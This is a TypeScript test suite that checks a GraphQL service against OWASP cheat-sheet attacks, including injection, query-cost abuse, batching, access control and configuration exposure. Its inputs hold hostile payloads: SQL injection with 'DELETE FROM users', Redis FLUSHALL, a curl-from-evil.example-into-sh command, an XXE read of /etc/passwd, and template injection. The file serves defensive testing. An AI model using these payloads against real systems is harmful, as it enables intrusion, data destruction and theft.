/** The headings of OWASP's GraphQL cheat sheet, each with what it warns of, against a service in production. */
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { PRODUCTION, VIEWER_TOKEN } from '../support/app.js'
import {
  type Attack,
  JSON_TYPE,
  type Listening,
  nothingThere,
  onlyData,
  refused,
  startListening,
} from './http.js'
import { type Reply, repeat } from './support.js'

let server: Listening
beforeAll(async () => {
  server = await startListening({ env: PRODUCTION })
})
afterAll(() => server.close())

const invalid = refused('GRAPHQL_VALIDATION_FAILED')
const badInput = refused('BAD_USER_INPUT')
const unauthenticated = refused('UNAUTHENTICATED')
const page = (args: string) => (s: Listening) => s.post(`{ affinities(${args}) { totalCount } }`)
const variable = (value: unknown) => (s: Listening) =>
  s.post('query ($s: String) { affinities(search: $s) { totalCount } }', { s: value })
const none = onlyData({ affinities: { totalCount: 0 } })
const GET = { method: 'GET', headers: {}, token: null } as const
/** Answered, but as an error of the field alone: 200 with null data where the field is the whole answer. */
const badArgument = (reply: Reply) => {
  expect(reply.status).toBeLessThan(500)
  expect(reply.text).toContain('BAD_USER_INPUT')
  expect(reply.text).not.toMatch(/"totalCount":\d/)
}

const HEADINGS: Readonly<Record<string, readonly Attack[]>> = {
  'Input Validation': [
    ['a number for a string', variable(7), badInput],
    ['an object for a string', variable({ $regex: '.*' }), badInput],
    ['a list for a string', variable(['a', 'b']), badInput],
    ['a blank selector', variable('   '), badArgument],
    ['an unknown enum value', page('orderBy: { field: PASSWORD }'), invalid],
    ['an unknown input field (mass assignment)', page('filter: { isAdmin: true }'), invalid],
    ['an integer beyond 32 bits', page('first: 99999999999'), invalid],
    ['a cursor that was never given', page('first: 1, after: "bm90IGEgY3Vyc29y"'), badArgument],
    ['half a character', variable('\ud800'), none],
    ['a NUL', variable('a\0b'), badArgument],
  ],
  'Injection Prevention': [
    ['SQL: a tautology', variable("' OR ''='"), none],
    ['SQL: a second statement', variable("'; DELETE FROM users; --"), none],
    ['SQL: a time delay', variable("'||pg_sleep(5)||'"), none],
    ['NoSQL: a pattern of keys', variable('cache_affinity:*'), none],
    ['NoSQL: a command of Redis', variable('*1\r\n$8\r\nFLUSHALL\r\n'), none],
    ['OS command', variable('; curl http://evil.example | sh'), none],
    ['LDAP', variable('*)(uid=*))(|(uid=*'), none],
    ['a template', variable('{{constructor.constructor("return process")()}}'), none],
    [
      'XML with an external entity',
      (s) =>
        s.send({
          headers: { 'content-type': 'application/xml' },
          body: '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
        }),
      badInput,
    ],
    [
      'prototype pollution in the body',
      (s) => s.send({ body: '{"query":"{ viewer { name } }","variables":{"__proto__":{"admin":true}}}' }),
      onlyData({ viewer: { name: 'tests' } }),
    ],
  ],
  'Query Limiting (Depth & Amount)': [
    [
      'depth',
      (s) => s.post(`{ affinities { nodes { ${'user { apiKeys { '.repeat(6)} id ${'} }'.repeat(6)} } } }`),
      invalid,
    ],
    ['amount: 99999999 of them', page('first: 99999999'), badArgument],
    ['amount: fewer than none', page('first: -1'), badArgument],
    [
      'amount below an amount',
      (s) =>
        s.post('{ affinities(first: 1000) { nodes { user { affinities(first: 1000) { nodes { id } } } } } }'),
      invalid,
    ],
  ],
  'Query Cost Analysis': [
    [
      'ten pages at once',
      (s) =>
        s.post(
          `{ ${repeat(10, (i) => `p${i}: affinities(first: 1000) { nodes { ...A } }`)} } fragment A on Affinity { id user { id apiKeys { id name maskedKey isActive } } provider { id name } endpoint { id baseUrl } model { id name } providerKey { id name } }`,
        ),
      invalid,
    ],
    [
      'fragments that double',
      (s) =>
        s.post(
          `{ viewer { ...f0 } } ${repeat(30, (i) => `fragment f${i} on Viewer { ...f${i + 1} ...f${i + 1} }`)} fragment f30 on Viewer { name }`,
        ),
      invalid,
    ],
  ],
  'System Resource Management': [
    [
      'a body of 1 MB',
      (s) => s.send({ body: `{"query":"{ __typename }","variables":{"x":"${'x'.repeat(1_000_000)}"}}` }),
      refused('BAD_USER_INPUT'),
    ],
    ['a document of 33,000 characters', (s) => s.post(`{ __typename } #${'x'.repeat(33_000)}`), badInput],
    ['5,000 opening brackets', (s) => s.post('['.repeat(5_000)), refused('GRAPHQL_PARSE_FAILED')],
    [
      'an address of 20,000 characters',
      (s) => s.send({ ...GET, path: `/graphql?query=${'x'.repeat(20_000)}` }),
      (reply) => expect(reply.status).toBe(431),
    ],
  ],
  'Access Control': [
    ['a query without a token', (s) => s.post('{ affinities { totalCount } }', {}, null), unauthenticated],
    [
      'a clear without a token',
      (s) => s.post('mutation { clearAllCache(confirm: true) { __typename } }', {}, null),
      unauthenticated,
    ],
    [
      'a subscription without a token',
      (s) => s.post('subscription { affinityEvents { type } }', {}, null),
      unauthenticated,
    ],
    [
      'function level: a clear by a viewer',
      (s) => s.post('mutation { clearAllCache(confirm: true) { __typename } }', {}, VIEWER_TOKEN),
      refused('FORBIDDEN'),
    ],
    [
      'object level: edges and nodes alike',
      (s) => s.post('{ affinities { edges { node { id } } nodes { id } } }', {}, null),
      unauthenticated,
    ],
    [
      'object level: a global node query is not there',
      (s) => s.post('{ node(id: "1") { id } nodes(ids: ["1"]) { id } }'),
      invalid,
    ],
    [
      'a field beside login',
      (s) =>
        s.post(
          'mutation { login(email: "a", password: "b") { ... on Session { viewer { user { apiKeys { maskedKey } } } } } }',
          {},
          null,
        ),
      onlyData({ login: {} }),
    ],
    [
      'a federation entry point',
      (s) => s.post('{ _service { sdl } _entities(representations: []) { __typename } }'),
      invalid,
    ],
  ],
  'Batching Attacks': [
    [
      'in a list',
      (s) => s.send({ body: '[{"query":"{ __typename }"},{"query":"{ __typename }"}]' }),
      badInput,
    ],
    [
      '31 logins by aliases',
      (s) =>
        s.post(
          `mutation { ${repeat(31, (i) => `l${i}: login(email: "a", password: "${i}") { __typename }`)} }`,
          {},
          null,
        ),
      invalid,
    ],
    [
      '31 identifiers by aliases (enumeration)',
      (s) => s.post(`{ ${repeat(31, (i) => `u${i}: userAffinities(identifier: "${i}") { __typename }`)} }`),
      invalid,
    ],
    [
      'two operations and no name',
      (s) => s.post('query A { __typename } query B { __typename }'),
      (reply) => expect(reply.status).toBe(400),
    ],
  ],
  'Secure Configurations': [
    ['introspection', (s) => s.post('{ __schema { types { name } } }'), invalid],
    ['introspection of one type', (s) => s.post('{ __type(name: "Query") { fields { name } } }'), invalid],
    ['the schema as a file', (s) => s.send({ ...GET, path: '/schema.graphql' }), nothingThere],
    ['the configuration as a file', (s) => s.send({ ...GET, path: '/.env' }), nothingThere],
    [
      'metrics without a token',
      (s) => s.send({ ...GET, path: '/metrics' }),
      (reply) => {
        expect(reply.status).toBe(401)
        expect(reply.text).toBe('')
      },
    ],
    [
      'health tells no address, version or error',
      (s) => s.send({ ...GET, path: '/health/ready' }),
      (reply) => expect(reply.text).not.toMatch(/127\.0\.0\.1|postgres|redis|version|Error/i),
    ],
    [
      'a server’s name in headers',
      (s) => s.post('{ __typename }'),
      (reply) => {
        for (const name of ['server', 'x-powered-by', 'via']) expect(reply.headers.get(name)).toBeNull()
      },
    ],
    [
      'suggestions in errors',
      (s) => s.post('{ viewr { name } }'),
      (reply) => expect(reply.text).not.toMatch(/did you mean/i),
    ],
    [
      'an unregistered persisted query',
      (s) =>
        s.send({ body: `{"extensions":{"persistedQuery":{"version":1,"sha256Hash":"${'0'.repeat(64)}"}}}` }),
      (reply) => expect(reply.status).toBe(400),
    ],
    [
      'another method',
      (s) => s.send({ method: 'DELETE', headers: JSON_TYPE }),
      (reply) => expect(Math.floor(reply.status / 100)).toBe(4),
    ],
    [
      'TRACE-like override headers',
      (s) =>
        s.send({
          method: 'GET',
          headers: { 'x-http-method-override': 'POST' },
          path: '/graphql?query=mutation{clearAllCache(confirm:true){__typename}}',
        }),
      badInput,
    ],
  ],
}

describe.each(Object.entries(HEADINGS))('%s', (_heading, attacks) => {
  it.each(attacks)('%s', async (_, attack, outcome) => outcome(await attack(server)))
})

it('none of these requests is logged as an error (Rate Limiting and Timeouts are in limits.test.ts)', async () => {
  expect(server.service.logs.filter(({ level }) => Number(level) >= 50)).toEqual([])
  expect(
    JSON.parse((await server.post('{ affinities { totalCount } }')).text).data.affinities.totalCount,
  ).toBe(506)
})
